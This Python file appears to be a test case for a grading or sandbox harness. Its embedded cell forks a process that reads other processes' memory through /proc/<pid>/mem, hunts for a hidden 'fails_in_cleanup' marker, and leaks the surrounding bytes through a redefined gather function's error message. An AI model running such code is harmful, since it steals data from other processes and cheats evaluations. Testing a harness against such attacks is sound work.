"""
attack: a process that reads the memory of the others and tells by way of an open check
deserves: nothing
"""

CELL = """\
import ctypes
import os
import pathlib
import time

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
NOTES = pathlib.Path("read-from-memory")


def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            if " rw-p " in line and ("heap" in line or line.endswith(" 0 " + chr(10))):
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(low)
                data = memory.read(min(high - low, 1 << 26))
                place = data.find(b"fails_in_" + b"cleanup")
                if place >= 0:
                    NOTES.write_bytes(data[max(0, place - 500) : place + 500])


if os.fork() == 0:
    for _ in range(20):
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                try:
                    search(int(name))
                except (OSError, ValueError, OverflowError):
                    pass
        time.sleep(0.2)
    os._exit(0)


async def gather(*async_fns):
    raise OSError(NOTES.read_text(errors="replace") if NOTES.exists() else "nothing yet")
"""
